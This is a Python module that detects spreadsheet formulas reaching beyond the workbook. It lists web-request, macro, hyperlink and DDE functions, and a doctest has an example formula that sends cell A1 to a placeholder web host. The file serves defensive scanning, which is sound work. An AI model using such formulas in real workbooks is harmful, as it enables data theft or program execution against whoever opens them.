"""Formulas that reach out of a workbook: to the web, to other programs, to files."""

from __future__ import annotations

import re
from html import unescape
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["doubts", "formulas"]

_CELL_OR_FORMULA = re.compile(rb"<(?:\w+:)?c\s([^<>]*)>|<(?:\w+:)?f(?:\s[^<>]*)?>([^<]+)</")
_PLACE = re.compile(rb"(?<![\w:.-])r\s*=\s*[\"']([A-Za-z]{1,3}[0-9]{1,7})[\"']")
_LONGEST = 8_192
"""Characters that a formula may have in Excel."""
_TEXT = re.compile(r'"[^"]*"')
_FUNCTIONS = {
    "WEBSERVICE": "asks a web address for data, and can send cells along",
    "FILTERXML": "takes web data apart; usually comes with WEBSERVICE",
    "IMAGE": "loads a picture from the web, and can send cells along",
    "RTD": "asks another program for data",
    "SQL.REQUEST": "asks a database",
}
_MACRO_FUNCTIONS = {
    "EXEC": "starts a program",
    "CALL": "calls code in a library",
    "REGISTER": "loads a library",
    "REGISTER.ID": "loads a library",
    "RUN": "runs a macro",
    "FOPEN": "opens a file",
    "FWRITE": "writes a file",
    "URLMON": "loads from the web",
}
_CALL = re.compile(r"(?<![\w.])(?:_xlfn\.)?(?:_xlws\.)?([A-Z][A-Z0-9.]*)\(", re.IGNORECASE)
_ODD_LINK = re.compile(r"HYPERLINK\(\s*\"\s*((?!https?:|mailto:)[a-z][a-z0-9+.-]+:|\\\\)", re.IGNORECASE)
_DDE = re.compile(r"(?<![\w.])[\w.]{2,}+'?\|'?[^'|!]*'?!")
_EVERYWHERE = frozenset({"CALL", "REGISTER", "REGISTER.ID", "EXEC"})


def formulas(xml: bytes) -> Iterator[tuple[str, str]]:
    """Each formula of a sheet with its cell.

    >>> list(formulas(b'<c r="B2"><f>1&lt;2</f></c><c r="B3"><v>1</v></c>'))
    [('B2', '1<2')]
    """
    if b"f>" not in xml:
        return
    cell = ""
    for attributes, formula in _CELL_OR_FORMULA.findall(xml):
        if formula:
            yield cell, unescape(formula[:_LONGEST].decode("utf-8", "replace"))
        else:
            place = _PLACE.search(attributes)
            cell = place[1].decode() if place else ""


def doubts(formula: str, *, macro_sheet: bool = False) -> list[tuple[str, str]]:
    """What in a formula reaches out of the workbook: its name, and what it does.

    Args:
        formula: as the file has it, without the equals sign.
        macro_sheet: whether it stands on an Excel 4 macro sheet, where formulas are commands.

    >>> doubts('_xlfn.WEBSERVICE("http://x/?"&A1)')
    [('WEBSERVICE', 'asks a web address for data, and can send cells along')]
    >>> doubts('"WEBSERVICE("&HYPERLINK("https://example.org")')
    []
    """
    found: dict[str, str] = {}
    bare = _TEXT.sub('""', formula)
    for name in _CALL.findall(bare):
        upper = name.upper()
        if upper == "IMAGE" and not re.search(r"https?:|\bA?[A-Z]{0,2}\$?\d", formula, re.IGNORECASE):
            continue
        if upper in _FUNCTIONS:
            found[upper] = _FUNCTIONS[upper]
        elif upper in _MACRO_FUNCTIONS and (macro_sheet or upper in _EVERYWHERE):
            found[upper] = _MACRO_FUNCTIONS[upper]
    odd = _ODD_LINK.search(formula)
    if odd:
        found[f"HYPERLINK to {odd[1]}"] = "opens another program or a file share when somebody clicks"
    if _DDE.search(bare):
        found["DDE"] = "asks another program, which Windows starts if it does not run"
    return list(found.items())
